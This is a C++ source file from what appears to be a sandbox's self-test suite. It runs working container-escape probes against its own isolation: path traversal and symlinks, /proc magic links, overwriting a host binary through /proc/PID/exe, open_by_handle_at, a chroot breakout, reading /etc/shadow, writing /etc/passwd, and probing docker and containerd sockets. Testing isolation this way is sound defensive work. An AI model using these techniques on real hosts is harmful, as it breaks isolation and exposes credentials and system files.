// Attacks on files of the host by path: links, "..", proc's magic links, handles, chroot. Device
// files are in devices.cc.
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "toolbox.h"

namespace glovebox::attacks {
namespace {

constexpr const char* kHostFile = "/usr/lib/os-release";

std::string climbing(const Args& args) {
  std::string path;
  for (int step = 0; step < 40; ++step) path += "../";
  return path + args.get("canary").substr(args.get("canary").empty() ? 0 : 1);
}

Verdict through_link(const std::string& target) {
  const std::string dir = make_work_dir();
  const std::string link = dir + "/link";
  if (symlink(target.c_str(), link.c_str()) != 0) return not_tried("symlink");
  const Verdict verdict = read_canary(AT_FDCWD, link);
  unlink(link.c_str());
  rmdir(dir.c_str());
  return verdict;
}

Verdict absolute_link(const Args& args) { return through_link(args.get("canary")); }
Verdict relative_link(const Args& args) { return through_link(climbing(args)); }
Verdict dotdot(const Args& args) { return read_canary(AT_FDCWD, climbing(args)); }
Verdict plain_path(const Args& args) { return read_canary(AT_FDCWD, args.get("canary")); }

Verdict proc_link(const Args& args, const std::string& link) {
  return read_canary(AT_FDCWD, link + "/" + climbing(args));
}
Verdict proc_1_root(const Args& args) {
  return read_canary(AT_FDCWD, "/proc/1/root" + args.get("canary"));
}
Verdict proc_1_cwd(const Args& args) { return proc_link(args, "/proc/1/cwd"); }
// PID 1 of the control is an ordinary process that still has the host's root.
template <Step kRun>
Verdict beside_plain_init(const Args& args) {
  return beside_init([&] { return kRun(args); });
}

// Any process at all, with root, working directory and open directories.
Verdict any_process_root(const Args& args) {
  int tried = 0;
  for (const int pid : visible_pids()) {
    if (pid == getpid()) continue;
    const std::string base = "/proc/" + std::to_string(pid);
    for (const char* link : {"/root", "/cwd"}) {
      ++tried;
      const Verdict verdict = proc_link(args, base + link);
      if (verdict.code == kSucceeded) return succeeded(base + link + ": " + verdict.text);
    }
    for (const std::string& fd : list_dir(base + "/fd")) {
      const Verdict verdict = proc_link(args, base + "/fd/" + fd);
      if (verdict.code == kSucceeded) return succeeded(base + "/fd/" + fd + ": " + verdict.text);
    }
  }
  return denied(std::to_string(tried) + " links of other processes, none leads out");
}

// A program's own file must not be writable through the link of a process that runs it: that is
// how a runtime's binary on the host was once replaced from inside of a container.
Verdict usr_exe_overwrite(const Args&) {
  int ends[2];
  if (pipe(ends) != 0) return not_tried("pipe");
  const pid_t child = fork();
  if (child < 0) return not_tried("fork");
  if (child == 0) {
    dup2(ends[0], 0);
    close(ends[1]);
    execl("/usr/bin/cat", "cat", static_cast<char*>(nullptr));
    _exit(127);
  }
  close(ends[0]);
  const std::string link = "/proc/" + std::to_string(child) + "/exe";
  std::string target;
  for (int round = 0; round < 2000 && target.find("cat") == std::string::npos; ++round) {
    char name[256] = {};
    if (readlink(link.c_str(), name, sizeof name - 1) > 0) target = name;
    usleep(1000);
  }
  const int path_fd = open(link.c_str(), O_PATH | O_CLOEXEC);
  const int path_error = errno;
  close(ends[1]);
  waitpid(child, nullptr, 0);
  if (target.find("cat") == std::string::npos) return not_tried("cat did not start");
  if (path_fd < 0) return denied_by_errno("open " + link, path_error);
  // Kept as a path, reopened when the program no longer runs (else it is only ETXTBSY).
  return by_reach("reopening /usr/bin/cat for writing",
                  open(("/proc/self/fd/" + std::to_string(path_fd)).c_str(), O_WRONLY | O_CLOEXEC));
}

Verdict usr_exe_verdict(const Args& args) {
  // EROFS is a refusal here: the read-only mount is the wall.
  const Verdict verdict = in_child([&] { return usr_exe_overwrite(args); });
  if (verdict.text.find("EROFS") != std::string::npos) return denied("reopen: EROFS", EROFS);
  return verdict;
}

Verdict agent_exe_overwrite(const Args&) {
  const int fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
  if (fd < 0) return denied_by_errno("open /proc/1/exe", errno);
  const std::string again = "/proc/self/fd/" + std::to_string(fd);
  for (const int flags : {O_WRONLY, O_RDONLY}) {
    const int reopened = open(again.c_str(), flags | O_CLOEXEC);
    // ETXTBSY comes after the permission check: the file would be writable between two runs.
    if (reopened >= 0 || errno == ETXTBSY) {
      return succeeded(flags == O_WRONLY ? "PID 1's program can be written"
                                         : "PID 1's program can be read");
    }
  }
  return denied_by_errno("reopen /proc/1/exe", errno);
}

Verdict own_exe_overwrite(const Args& args) {
  // Our own file came in as a copy. Opening it for writing is our right (ETXTBSY while it runs);
  // the prize is the file on the host it was copied from, which must not be the same inode.
  const std::string wanted = args.get("inode");
  if (wanted.empty()) return not_tried("no inode given");
  struct stat self {};
  if (stat("/proc/self/exe", &self) != 0) return denied_by_errno("stat /proc/self/exe", errno);
  const std::string mine = std::to_string(major(self.st_dev)) + ":" +
                           std::to_string(minor(self.st_dev)) + ":" + std::to_string(self.st_ino);
  const int fd = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
  const int err = errno;
  if (fd >= 0) close(fd);
  if (fd < 0 && err != ETXTBSY) return denied_by_errno("open /proc/self/exe for writing", err);
  if (mine != wanted) return denied("/proc/self/exe is a copy, not the host's file");
  return succeeded("/proc/self/exe is the host's own file and writable");
}

Verdict reopen_read_only(const Args&) {
  const int fd = open(kHostFile, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return denied_by_errno("open", errno);
  return by_open("/proc/self/fd/" + std::to_string(fd), O_RDWR);
}

// The root directory of the file system that /usr comes from, by its well-known handle.
Verdict root_by_handle(const Args& args) {
  const int mount_fd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount_fd < 0) return denied_by_errno("open /usr", errno);
  struct {
    struct file_handle head;
    unsigned inode_and_generation[2];
  } handle{};
  handle.head.handle_bytes = sizeof handle.inode_and_generation;
  handle.head.handle_type = 1;  // FILEID_INO32_GEN
  handle.inode_and_generation[0] = 2;
  const int fd = open_by_handle_at(mount_fd, &handle.head, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return by_reach("open_by_handle_at", -1);
  const Verdict inner = read_canary(fd, args.get("canary").substr(1));
  return succeeded("open_by_handle_at opened inode 2; " + inner.text);
}

// A wall of the file system or of permissions: all of EACCES, EPERM, EROFS and ENOENT are "no".
Verdict write_usr(const Args&) { return by_open(kHostFile, O_WRONLY); }
Verdict write_passwd(const Args&) { return by_open("/etc/passwd", O_WRONLY); }
Verdict read_shadow(const Args&) { return by_open("/etc/shadow", O_RDONLY); }
Verdict write_ld_preload(const Args&) {
  const std::string path = "/etc/ld.so.preload.gbx-attack";
  const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  if (fd < 0) return denied_by_errno("create in /etc", errno);
  close(fd);
  unlink(path.c_str());
  return succeeded("a file in /etc was made");
}
Verdict write_ld_preload_control(const Args& args) {
  return in_scratch([&](const std::string& dir) {
    if (mount(dir.c_str(), "/etc", nullptr, MS_BIND, nullptr) != 0) return not_tried("bind /etc");
    return write_ld_preload(args);
  });
}

Verdict root_home(const Args&) {
  const auto names = list_dir("/root");
  if (names.empty()) return denied("/root shows nothing");
  return succeeded("/root shows " + std::to_string(names.size()) + " names");
}
Verdict root_home_control(const Args& args) {
  return in_scratch([&](const std::string& dir) {
    if (mknod((dir + "/secret").c_str(), S_IFREG | 0600, 0) != 0) return not_tried("mknod");
    if (mount(dir.c_str(), "/root", nullptr, MS_BIND, nullptr) != 0) return not_tried("bind /root");
    return root_home(args);
  });
}

Verdict machine_id(const Args&) {
  for (const char* path : {"/etc/machine-id", "/var/lib/dbus/machine-id"}) {
    if (read_file(path).size() >= 32) return succeeded(std::string("read ") + path);
  }
  return denied("no machine-id", ENOENT);
}
Verdict machine_id_control(const Args& args) {
  return in_scratch([&](const std::string& dir) {
    const int fd = open((dir + "/machine-id").c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0 || write(fd, "0123456789abcdef0123456789abcdef\n", 33) != 33)
      return not_tried("write");
    close(fd);
    if (mount(dir.c_str(), "/etc", nullptr, MS_BIND, nullptr) != 0) return not_tried("bind /etc");
    return machine_id(args);
  });
}

Verdict connect_unix(const std::string& path) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  if (path.empty() || path.size() >= sizeof address.sun_path) return not_tried("no socket path");
  strcpy(address.sun_path, path.c_str());
  const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (fd < 0) return denied_by_errno("socket", errno);
  const int result = connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address);
  const int err = errno;
  close(fd);
  if (result != 0) return denied_by_errno("connect " + path, err);
  return succeeded("connected to " + path);
}
Verdict unix_socket(const Args& args) { return connect_unix(args.get("unix")); }

Verdict container_sockets(const Args&) {
  Verdict last = denied("none there", ENOENT);
  for (const char* path :
       {"/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock",
        "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/run/dbus/system_bus_socket",
        "/run/systemd/private", "/run/glovebox/launcher.sock"}) {
    last = connect_unix(path);
    if (last.code == kSucceeded) return last;
  }
  return last;
}
Verdict container_sockets_control(const Args& args) {
  return in_scratch([&](const std::string& dir) {
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    strcpy(address.sun_path, (dir + "/docker.sock").c_str());
    const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 ||
        listen(fd, 1) != 0) {
      return not_tried("listen");
    }
    if (mount(dir.c_str(), "/run", nullptr, MS_BIND, nullptr) != 0) return not_tried("bind /run");
    return container_sockets(args);
  });
}

Verdict sysfs_visible(const Args&) {
  struct statfs info {};
  if (statfs("/sys", &info) != 0) return denied_by_errno("statfs /sys", errno);
  if (info.f_type != 0x62656572 || list_dir("/sys/class").empty())
    return denied("no sysfs on /sys");
  return succeeded("/sys/class can be listed");
}

// Out of a chroot by making another one while holding a directory outside of it.
Verdict chroot_breakout(const Args& args) {
  const std::string dir = make_work_dir();
  const int outside = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (outside < 0) return not_tried("open .");
  if (chroot(dir.c_str()) != 0) {
    const int err = errno;
    rmdir(dir.c_str());
    return denied_by_errno("chroot", err);
  }
  if (fchdir(outside) != 0) return not_tried("fchdir");
  for (int step = 0; step < 64; ++step) (void)!chdir("..");
  if (chroot(".") != 0) return denied_by_errno("second chroot", errno);
  return read_canary(AT_FDCWD, args.get("canary"));
}
Verdict chroot_breakout_control(const Args& args) {
  return in_scratch([&](const std::string& dir) {
    if (chroot(dir.c_str()) != 0 || chdir("/") != 0) return not_tried("first chroot");
    if (read_canary(AT_FDCWD, args.get("canary")).code == kSucceeded)
      return not_tried("not confined");
    return chroot_breakout(args);
  });
}

Verdict chown_to_root(const Args&) {
  const std::string dir = make_work_dir();
  const Verdict verdict = by_result("chown to 0", chown(dir.c_str(), 0, 0));
  rmdir(dir.c_str());
  return verdict;
}
Verdict chown_to_root_control(const Args& args) {
  return in_scratch([&](const std::string&) { return chown_to_root(args); });
}

Verdict file_capabilities(const Args&) {
  const std::string file = make_work_dir() + "/tool";
  close(open(file.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0755));
  // VFS_CAP_REVISION_2 with the effective bit, CAP_SYS_ADMIN permitted.
  const unsigned value[5] = {0x02000001, 1U << 21, 0, 0, 0};
  return by_result("setting file capabilities",
                   setxattr(file.c_str(), "security.capability", value, sizeof value, 0));
}
Verdict file_capabilities_control(const Args& args) {
  return in_scratch([&](const std::string&) { return file_capabilities(args); });
}

// Freezing would stop every writer of the file system; tried only on a directory of our own.
Verdict freeze_files(const Args&) {
  const int fd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  return by_reach("FIFREEZE", ioctl(fd, FIFREEZE, 0));
}
Verdict freeze_files_control(const Args& args) {
  return in_scratch([&](const std::string&) { return freeze_files(args); });
}

const char* const kRoot = "root is our own overlay";
const Attack kAttacks[] = {
    {.name = "file_plain_path",
     .aims_at = "a host file by its path",
     .held_by = kRoot,
     .run = plain_path,
     .needs = "canary"},
    {.name = "file_absolute_symlink",
     .aims_at = "a host file through an absolute symlink",
     .held_by = kRoot,
     .run = absolute_link,
     .needs = "canary"},
    {.name = "file_relative_symlink",
     .aims_at = "a host file through a relative symlink",
     .held_by = kRoot,
     .run = relative_link,
     .needs = "canary"},
    {.name = "file_dotdot",
     .aims_at = "a host file above the root by ..",
     .held_by = "pivot_root",
     .run = dotdot,
     .needs = "canary"},
    {.name = "file_proc_1_root",
     .aims_at = "a host file below the root of PID 1",
     .held_by = "agent is not ours to look into",
     .run = proc_1_root,
     .control = beside_plain_init<proc_1_root>,
     .needs = "canary"},
    {.name = "file_proc_1_cwd",
     .aims_at = "a host file above the working directory of PID 1",
     .held_by = "agent is not ours to look into",
     .run = proc_1_cwd,
     .control = beside_plain_init<proc_1_cwd>,
     .needs = "canary"},
    {.name = "file_any_process_root",
     .aims_at = "a host file through any process's links",
     .held_by = "pid namespace, pivot_root",
     .run = any_process_root,
     .needs = "canary"},
    {.name = "file_proc_self_fd_reopen",
     .aims_at = "a read-only host file reopened for writing",
     .held_by = "read-only layer",
     .run = reopen_read_only},
    {.name = "file_usr_exe_overwrite",
     .aims_at = "a host program through /proc/PID/exe",
     .held_by = "read-only layer",
     .run = usr_exe_verdict},
    {.name = "file_own_exe_overwrite",
     .aims_at = "the host's copy of our own program",
     .held_by = "files are copied in",
     .run = own_exe_overwrite,
     .needs = "inode"},
    {.name = "file_agent_exe_overwrite",
     .aims_at = "the agent's program through /proc/1/exe",
     .held_by = "agent is not ours to look into",
     .run = agent_exe_overwrite,
     .control = beside_plain_init<agent_exe_overwrite>},
    {.name = "file_open_by_handle",
     .aims_at = "the host's root directory by file handle",
     .held_by = "seccomp, no capabilities",
     .run = root_by_handle,
     .needs = "canary"},
    {.name = "file_write_usr",
     .aims_at = "writing the host's /usr",
     .held_by = "read-only layer",
     .run = write_usr},
    {.name = "file_write_passwd",
     .aims_at = "writing /etc/passwd",
     .held_by = "owner of the layer",
     .run = write_passwd},
    {.name = "file_create_in_etc",
     .aims_at = "a new file in /etc",
     .held_by = "owner of the layer",
     .run = write_ld_preload,
     .control = write_ld_preload_control},
    {.name = "file_read_shadow",
     .aims_at = "the host's password hashes",
     .held_by = "own /etc",
     .run = read_shadow},
    {.name = "file_root_home",
     .aims_at = "the host's /root",
     .held_by = kRoot,
     .run = root_home,
     .control = root_home_control},
    {.name = "file_machine_id",
     .aims_at = "the host's machine-id",
     .held_by = "own /etc",
     .run = machine_id,
     .control = machine_id_control},
    {.name = "file_host_socket",
     .aims_at = "a Unix socket of the host by path",
     .held_by = kRoot,
     .run = unix_socket,
     .needs = "unix"},
    {.name = "file_container_sockets",
     .aims_at = "docker's, systemd's and the launcher's sockets",
     .held_by = kRoot,
     .run = container_sockets,
     .control = container_sockets_control},
    {.name = "file_sysfs",
     .aims_at = "the devices in /sys",
     .held_by = "no /sys",
     .run = sysfs_visible},
    {.name = "file_chroot_breakout",
     .aims_at = "a way out by a second chroot",
     .held_by = "no capabilities, seccomp",
     .run = chroot_breakout,
     .control = chroot_breakout_control,
     .needs = "canary"},
    {.name = "file_chown_to_root",
     .aims_at = "files owned by root",
     .held_by = "no capabilities",
     .run = chown_to_root,
     .control = chown_to_root_control},
    {.name = "file_capabilities",
     .aims_at = "a program with capabilities of its own",
     .held_by = "no capabilities",
     .run = file_capabilities,
     .control = file_capabilities_control},
    {.name = "file_freeze",
     .aims_at = "freezing a file system",
     .held_by = "no capabilities",
     .run = freeze_files,
     .control = freeze_files_control},
};

}  // namespace

Group file_attacks() { return {"files", kAttacks}; }

}  // namespace glovebox::attacks
